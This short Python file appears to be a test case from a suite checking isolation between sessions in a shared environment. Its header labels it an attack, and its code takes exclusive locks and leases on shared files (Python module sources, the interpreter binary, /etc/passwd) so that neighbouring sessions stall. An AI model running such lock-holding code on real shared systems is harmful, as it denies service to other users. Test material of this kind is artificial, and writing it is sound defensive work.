# attack: lock files of the shared environment exclusively, to stall other sessions that lock them too
# must end: completed
# with: neighbour
# state: preserved
# then: len(held_locks) >= 1
import fcntl, json, os, sys
held_locks = []
for path in (os.__file__, json.__file__, os.path.realpath(sys.executable), "/etc/passwd"):
    file = open(path, "rb")
    held_locks.append(file)
    try:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        pass
    try:
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    except OSError:
        pass
print("held")
